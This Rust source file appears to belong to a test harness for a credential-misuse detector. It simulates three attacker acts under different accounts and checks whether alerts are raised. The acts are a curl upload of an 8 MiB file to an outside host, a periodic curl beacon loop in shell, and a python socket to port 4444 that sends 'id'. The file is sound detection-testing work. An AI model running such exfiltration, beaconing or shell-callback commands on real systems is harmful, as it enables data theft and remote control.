//! What a thief would do with the accounts' credentials after an hour of ordinary work, and whether it is told.

use std::{
    collections::BTreeSet,
    fs,
    io::Read as _,
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result};

use super::{
    daemon::Daemon,
    network::{STRANGERS, Side},
    scene::Scene,
};

/// Bytes that are carried off.
const MUCH: u64 = 8 << 20;
/// Calls of a beacon, if they are not closer together than these seconds.
const CALLS: u64 = 30;
const CLOSEST: u64 = 3;
/// How long after the last act an alert may come.
const LATEST: Duration = Duration::from_secs(15);

/// An act and what came of it. The acts are done under different accounts, and nothing else is done
/// meanwhile: what is told of the account is told of the act.
pub(super) struct Act {
    pub(super) what: String,
    /// Who did it, as Credwatch names it.
    pub(super) identity: String,
    /// The alerts, each with its detection and sentence, and when the first of them came.
    pub(super) alerts: Vec<(String, String)>,
    pub(super) after: Option<Duration>,
    /// Why it could not be done.
    pub(super) failed: Option<String>,
    child: Child,
}

/// Does them all at once, and waits for what is told of them. A beacon goes on for `length`.
///
/// # Errors
/// When one cannot be begun, or the daemon does not answer.
pub(super) fn run(scene: &Scene, daemon: &mut Daemon, length: Duration) -> Result<Vec<Act>> {
    let known: BTreeSet<_> = daemon.alerts()?.into_iter().map(|of| of.alert_id).collect();
    let mut acts = vec![
        carry_off(scene)?,
        beacon(scene, length)?,
        new_program(scene)?,
    ];
    let start = Instant::now();
    loop {
        daemon.lives()?;
        for alert in daemon.alerts()? {
            let mut of_it = acts.iter_mut();
            let act = of_it.find(|act| Some(&act.identity) == alert.identity.as_ref());
            let Some(act) = act.filter(|_| !known.contains(&alert.alert_id)) else {
                continue;
            };
            let told = (alert.id, alert.summary);
            if !act.alerts.contains(&told) {
                act.after.get_or_insert_with(|| start.elapsed());
                act.alerts.push(told);
            }
        }
        let is_over = start.elapsed() > length + LATEST;
        if is_over {
            break;
        }
        thread::sleep(Duration::from_secs(1));
    }
    for act in &mut acts {
        act.end()?;
    }
    Ok(acts)
}

impl Act {
    fn begin(
        scene: &Scene,
        (name, program): (&str, &str),
        what: &str,
        arguments: impl FnOnce(&mut Command),
    ) -> Result<Self> {
        let account = scene.place.find(name)?;
        let mut command = scene.command(Side::Host, Some(account), program);
        arguments(&mut command);
        let child = command
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .with_context(|| format!("cannot begin: {what}"))?;
        Ok(Self {
            what: format!("{}: {what}", account.name),
            identity: account.selector(),
            alerts: Vec::new(),
            after: None,
            failed: None,
            child,
        })
    }

    fn end(&mut self) -> Result<()> {
        let Some(status) = self.child.try_wait()? else {
            self.failed = Some("it did not end".to_owned());
            return Ok(());
        };
        if !status.success() {
            let mut words = String::new();
            if let Some(mut pipe) = self.child.stderr.take() {
                pipe.read_to_string(&mut words)?;
            }
            self.failed = Some(format!("{status}: {}", words.trim()));
        }
        Ok(())
    }
}

fn carry_off(scene: &Scene) -> Result<Act> {
    let account = scene.place.find("deploy")?;
    let mut content = Vec::new();
    fs::File::open("/dev/urandom")?
        .take(MUCH)
        .read_to_end(&mut content)?;
    let file = scene.place.file(account, "work.tar", content)?;
    let to = STRANGERS[0];
    let what = format!("8 MiB by curl to {to}:443, which it never called");
    let arguments = |curl: &mut Command| {
        curl.args(["--silent", "--show-error", "--fail", "--cacert"]);
        curl.arg(account.home.join("ca.crt"));
        curl.arg("--upload-file").arg(file);
        curl.arg(format!("https://{to}/"));
    };
    Act::begin(scene, ("deploy", "curl"), &what, arguments)
}

fn beacon(scene: &Scene, length: Duration) -> Result<Act> {
    let account = scene.place.find("api")?;
    let period = (length.as_secs() / CALLS).max(CLOSEST);
    // The last one a little before the end, so that all of them are over by then.
    let times = (length.as_secs() / period).saturating_sub(1).max(1);
    let to = STRANGERS[1];
    let what =
        format!("{times} calls by curl, one every {period} s, to {to}:443, which it never called");
    let script = "for call in $(seq \"$1\"); do sleep \"$2\"; curl --silent --show-error --fail --output /dev/null \
                  --cacert \"$3\" \"https://$4/\" || exit; done";
    let arguments = |sh: &mut Command| {
        sh.args(["-c", script, "sh", &times.to_string(), &period.to_string()]);
        sh.arg(account.home.join("ca.crt")).arg(to);
    };
    Act::begin(scene, ("api", "sh"), &what, arguments)
}

fn new_program(scene: &Scene) -> Result<Act> {
    let to = STRANGERS[2];
    let what = format!("python3, which it never ran, calls {to}:4444");
    let script = "import socket, sys\n\
                  with socket.create_connection((sys.argv[1], 4444), timeout=20) as of: of.sendall(b'id\\n')";
    let arguments = |python: &mut Command| {
        python.args(["-c", script, to]);
    };
    Act::begin(scene, ("report", "python3"), &what, arguments)
}
